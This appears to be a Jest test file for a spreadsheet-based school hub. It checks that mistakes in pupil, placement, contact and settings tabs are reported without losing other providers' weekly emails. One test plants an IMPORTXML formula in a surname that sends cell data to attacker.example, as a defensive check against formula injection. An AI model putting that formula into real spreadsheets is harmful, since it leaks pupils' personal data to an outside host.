/**
 * What people get wrong: each said on Problems with its place and remedy, the rest of the hub served, nothing
 * lost.
 */
import { rowsOf } from "../../../src/programs/look";
import { outbox } from "../../../src/domain/tables/ledger";
import { contacts, placements, providers, pupils } from "../../../src/domain/tables/people";
import { settings } from "../../../src/domain/tables/settings";
import type { MemoryWorkspace } from "../../../src/host/workspace/memoryWorkspace";
import {
  demo,
  FRIDAY,
  globalsOf,
  paste,
  person,
  problemsIn,
  received,
  referenceIn,
  sweep,
  type,
  valuesOf,
} from "../hub";

const LEAD = "helen.marlowe@hub.example";
const book = (workspace: MemoryWorkspace) => globalsOf(workspace).SpreadsheetApp.getActiveSpreadsheet();
/** Types into a tab's column by heading, in the row where another column has a value. */
function at(
  workspace: MemoryWorkspace,
  tab: string,
  where: [heading: string, value: string],
  heading: string,
  typed: string,
) {
  const lead = person(workspace, LEAD);
  const [headings = [], ...rows] = valuesOf(lead, tab);
  const row = rows.findIndex((r) => r[headings.indexOf(where[0])] === where[1]) + 2;
  lead.edit(tab, row, headings.indexOf(heading) + 1, [[typed]]);
}
const check = (workspace: MemoryWorkspace): string[] => {
  person(workspace, LEAD).call("checkPasted");
  return problemsIn(workspace);
};

let everybody: string[] = [];
beforeAll(async () => {
  const { workspace, demo: hub } = demo();
  sweep(workspace, hub.owner);
  everybody = (await received(workspace)).map(referenceIn).sort();
});

/**
 * What is wrong, how it comes about, the problem, and how many contacts still get their update (all by
 * default).
 */
const CASES: [what: string, wrong: (w: MemoryWorkspace) => void, problem: RegExp, missing?: RegExp][] = [
  [
    "an unknown grade",
    (w) => at(w, "Weekly grades", ["Pupil id", "U004"], "Engagement", "Rd"),
    /^Weekly grades \d+ Engagement: "Rd" cannot be read: it is not a grade \(for an absence, use U or I\)/,
  ],
  [
    "a date typed as text",
    (w) => at(w, "Pupils", ["Id", "U004"], "Born", "3rd of May"),
    /^Pupils \d+ Born: "3rd of May" cannot be read: it is not a date/,
  ],
  [
    "a placement's date typed as text",
    (w) => at(w, "Placements", ["Id", "L004"], "First day", "in September"),
    /^Placements \d+ First day: "in September" cannot be read.*this row is left out/,
  ],
  [
    "a pupil without placement",
    (w) => paste(person(w, LEAD), "Pupils", ["First name", "Surname"], [["Ophelia", "Newcombe"]]),
    /^Pupils \d+ Id: .+ \(U021\) has no placement/,
  ],
  [
    "overlapping placements with one provider",
    (w) =>
      paste(
        person(w, LEAD),
        "Placements",
        ["Pupil", "Provider", "First day"],
        [["U004", "P01", "2026-10-01"]],
      ),
    /^Placements \d+ First day: Placement L\d+ overlaps another placement of U004 with P01/,
  ],
  [
    "a placement that ends before it starts",
    (w) =>
      paste(
        person(w, LEAD),
        "Placements",
        ["Pupil", "Provider", "First day", "Last day"],
        [["U004", "P02", "2026-11-20", "2026-11-02"]],
      ),
    /^Placements \d+ Last day: Placement L\d+ ends before it starts/,
  ],
  [
    "a provider without contact",
    (w) => {
      for (const c of rowsOf(w, contacts).filter((r) => r.provider === "P01"))
        type(w, contacts, (r) => r["id"] === c.id, { email: "" });
    },
    /^Providers \d+ Name: .+ has pupils here but no (confirmed )?contact/,
    /^P01-/,
  ],
  [
    "two addresses in a cell",
    (w) => at(w, "Contacts", ["Id", "C001"], "Email", "a@fernhollow-academy.example, b@other.example"),
    /^Contacts \d+ Email: "a@.*" cannot be read: it is not a single email address/,
    /-C001$/,
  ],
  [
    "a formula in a name",
    (w) => at(w, "Pupils", ["Id", "U015"], "Surname", '=IMPORTXML("https://attacker.example/?d="&A1,"//a")'),
    /^Pupils \d+ Surname: (This cell contains a formula|"#ERROR!" cannot be read)/,
  ],
  [
    "a phone number pasted as a number",
    (w) => {
      const s = book(w).getSheetByName("Settings");
      const r = rowsOf(w, settings).findIndex((x) => x.setting === "DSL phone") + 2;
      s.getRange(r, 2).setNumberFormat("0").setValue(1632960123);
    },
    /^Settings \d+ Value: DSL phone is "1632960123": start the number with 0 or \+/,
  ],
  [
    "a week outside the calendar",
    (w) => at(w, "Weekly grades", ["Pupil id", "U004"], "Week", "2026-10-26"),
    /^Weekly grades \d+ Week: 26 October 2026 is not a school week in the Calendar/,
  ],
  [
    "a week that is no Monday",
    (w) => at(w, "Weekly grades", ["Pupil id", "U004"], "Week", "2026-11-18"),
    /^Weekly grades \d+ Week: 18 November 2026 is not a Monday/,
  ],
  [
    "Settings with 25:99",
    (w) => at(w, "Settings", ["Setting", "Closing time"], "Value", "25:99"),
    /^Settings \d+ Value: Closing time is "25:99": enter a time such as 16:30. Correct it. Until then 16:30 is used/,
  ],
  [
    "the same UPN twice",
    (w) => type(w, pupils, (p) => p["id"] === "U002", { upn: rowsOf(w, pupils)[0]?.upn ?? "" }),
    /^Pupils \d+ UPN: Rows 2 and 3 have the same UPN/,
  ],
  [
    "a UPN whose letter is wrong",
    (w) => type(w, pupils, (p) => p["id"] === "U002", { upn: "A801200005001" }),
    /^Pupils \d+ UPN: Not a valid UPN/,
  ],
  [
    "the same name and birthday",
    (w) => {
      const p = rowsOf(w, pupils)[0]!;
      type(w, pupils, (r) => r["id"] === "U015", {
        firstName: p.firstName,
        surname: p.surname,
        born: p.born ?? "",
      });
    },
    /^Pupils 2 First name: Rows 2 and 16 have the same name and date of birth/,
  ],
  [
    "the same row twice",
    (w) => {
      const s = book(w).getSheetByName("Weekly grades");
      s.getRange(22, 1, 1, 4).setValues(s.getRange(2, 1, 1, 4).getValues());
    },
    /^Weekly grades 2 Week: Rows 2 and 22 are both for 16 November 2026, U\d+, so neither is used/,
  ],
  [
    "an id twice",
    (w) => type(w, pupils, (p) => p["id"] === "U015", { id: "U016" }),
    /^Pupils \d+ Id: Rows 16 and 17 are both for U016, so neither is used/,
  ],
  [
    "a name beside another's id",
    (w) => type(w, pupils, (p) => p["id"] === "U015", { firstName: "Somebody", surname: "Else" }),
    /^Weekly grades \d+ Pupil: \d+ rows: The id U015 belongs to somebody else: Somebody Else/,
  ],
  [
    "a key worker nobody knows",
    (w) => type(w, pupils, (p) => p["id"] === "U015", { keyWorker: "Mr Nobody" }),
    /^Pupils 16 Key worker: "Mr Nobody" is not the id of a member of staff/,
  ],
  [
    "a tab copied",
    (w) => {
      const b = book(w);
      const s = b.insertSheet("Copy of Pupils");
      const v = b.getSheetByName("Pupils").getDataRange().getValues();
      s.getRange(1, 1, v.length, v[0].length).setValues(v);
    },
    /^Pupils - : The tab "Copy of Pupils" looks like Pupils, but only Pupils is read/,
  ],
  [
    "more sessions attended than offered",
    (w) => at(w, "Weekly grades", ["Pupil id", "U004"], "Sessions attended", "99"),
    /^Weekly grades \d+ Sessions attended: 99 attended, but only \d+ offered/,
  ],
];

test.each(CASES)("%s", async (_what, wrong, problem, missing = /^never$/) => {
  const { workspace, demo: hub } = demo();
  wrong(workspace);
  const typed = JSON.stringify(
    ["Pupils", "Placements", "Contacts"].map((tab) =>
      valuesOf(person(workspace, LEAD), tab).map((r) => r.slice(1)),
    ),
  );
  expect(check(workspace).filter((p) => problem.test(p))).not.toHaveLength(0);
  sweep(workspace, hub.owner);
  const got = (await received(workspace)).map(referenceIn).sort();
  expect(got).toEqual(everybody.filter((reference) => !missing.test(reference)));
  expect(
    JSON.stringify(
      ["Pupils", "Placements", "Contacts"].map((tab) =>
        valuesOf(person(workspace, LEAD), tab).map((r) => r.slice(1)),
      ),
    ),
  ).toBe(typed);
});

const STOPS: [what: string, wrong: (w: MemoryWorkspace) => void, problem: RegExp][] = [
  [
    "a workbook in American dates",
    (w) => book(w).setSpreadsheetLocale("en_US"),
    /^Settings - : The workbook's locale is en_US.*Run Prepare workbook/,
  ],
  [
    "a heading renamed",
    (w) => book(w).getSheetByName("Placements").getRange(1, 4).setValue("Start"),
    /^Placements 1 First day: The heading "First day" is missing/,
  ],
  [
    "a tab deleted",
    (w) => book(w).deleteSheet(book(w).getSheetByName("Placements")),
    /^Placements - : The tab "Placements" is missing/,
  ],
  [
    "an empty calendar",
    (w) => {
      const s = book(w).getSheetByName("Calendar");
      s.getRange(2, 1, s.getLastRow(), 6).clearContent();
    },
    /^Calendar - : The Calendar has no half-term/,
  ],
  [
    "half-terms that overlap",
    (w) => at(w, "Calendar", ["Name", "Autumn 2"], "First day", "2026-10-19"),
    /^Calendar \d+ First day: Autumn 2 starts on 19 October 2026, before Autumn 1 has ended/,
  ],
  [
    "rows deleted from the Outbox",
    (w) => book(w).getSheetByName("Outbox").deleteRow(7),
    /^Outbox - No: The numbers in the Outbox do not run from 1 to \d+ without a gap.*Nothing will be sent/,
  ],
  [
    "the end of the Outbox deleted",
    (w) => {
      const s = book(w).getSheetByName("Outbox");
      s.deleteRows(s.getLastRow() - 3, 4);
    },
    /^Outbox - No: The Outbox has \d+ rows, but \d+ were counted before/,
  ],
  [
    "letters of the Outbox changed",
    (w) => {
      const s = book(w).getSheetByName("Outbox");
      s.getRange(3, 8).setValue("{broken");
    },
    /^Outbox - Letters: The letters of event 2 cannot be read/,
  ],
  [
    "a setting that decides who gets what",
    (w) => at(w, "Settings", ["Setting", "Hold weekly updates for approval"], "Value", "perhaps"),
    /^Settings \d+ Value: Hold weekly updates for approval is "perhaps".*Nothing will be sent/,
  ],
  [
    "no address for answers",
    (w) => at(w, "Settings", ["Setting", "Reply-to address"], "Value", ""),
    /^Settings - Value: The Reply-to address is empty/,
  ],
];

test.each(STOPS)("%s stops what would read it, and says so", (_what, wrong, problem) => {
  const { workspace, demo: hub } = demo();
  wrong(workspace);
  expect(() => sweep(workspace, hub.owner)).toThrow();
  expect(problemsIn(workspace).filter((p) => problem.test(p))).toHaveLength(1);
  expect(workspace.mails).toEqual([]);
  expect(rowsOf(workspace, outbox).some((e) => e.key.startsWith("weekly|2026-11-16"))).toBe(false);
});

test("two sweeps at once: the second leaves everything to the first", () => {
  const { workspace, demo: hub } = demo();
  let inner: unknown;
  const hook = {
    before: ({ name }: { name: string }) => {
      if (name !== "MailApp.sendEmail" || inner) return;
      inner = {};
      inner = person(workspace, hub.owner, FRIDAY, { mode: "trigger" }).call("hourlySweep");
    },
  };
  sweep(workspace, hub.owner, { hook });
  expect(inner).toMatchObject({ said: expect.stringMatching(/Another run is at work/) });
  const sent = rowsOf(workspace, outbox)
    .filter((e) => e.state === "sent")
    .map((e) => e.key);
  expect(new Set(sent).size).toBe(sent.length);
});

test("an unreadable grade is to follow, and comes as late once it is corrected", async () => {
  const { workspace, demo: hub } = demo();
  at(workspace, "Weekly grades", ["Pupil id", "U004"], "Engagement", "Rd");
  sweep(workspace, hub.owner);
  const provider = rowsOf(workspace, placements).find((p) => p.pupil === "U004")?.provider ?? "";
  const mail = (await received(workspace)).find((m) => referenceIn(m).startsWith(provider));
  expect(mail?.text).toMatch(/Engagement: to follow/);
  at(workspace, "Weekly grades", ["Pupil id", "U004"], "Engagement", "r");
  sweep(workspace, hub.owner, { now: "2026-11-27T16:40" });
  const next = (await received(workspace)).filter((m) => m.text.includes(`Ref 2026-11-23-${provider}`));
  expect(next[0]?.text).toMatch(/Week beginning 16 November: Engagement now Red \(was not graded\)/);
});

test("providers keep their capitals, apostrophes and accents; a name that only looks like a formula stays text", () => {
  const { workspace } = demo();
  const lead = person(workspace, LEAD);
  paste(lead, "Providers", ["Name"], [["'=SUM School"], ["O'Brien & Søn – École"], ["'+44 Academy"]]);
  check(workspace);
  expect(
    rowsOf(workspace, providers)
      .slice(-3)
      .map((p) => p.name),
  ).toEqual(["=SUM School", "O'Brien & Søn – École", "+44 Academy"]);
});
